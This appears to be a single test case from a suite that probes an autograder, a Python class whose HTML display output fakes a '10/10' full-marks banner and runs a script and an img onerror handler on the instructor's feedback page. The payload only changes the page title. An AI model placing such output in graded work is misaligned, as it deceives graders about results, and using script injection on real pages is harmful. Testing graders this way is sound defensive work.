"""Attack: display HTML that fakes a full-marks banner, runs a script and an onerror handler in
the feedback page an instructor opens."""
# base: residuals wrong_grad_missing_cos
# class: HTML and script in outputs
# run: cluster


class _Banner:
    def _repr_html_(self):
        return (
            '<div style="position:fixed;top:0;left:0;width:100%;background:#2a2;color:#fff;font-size:40px">'
            "全部通过 10/10</div><script>document.title='PWNED-script'</script>"
            '<img src="x" onerror="document.title=\'PWNED-onerror\'">'
        )


_Banner()
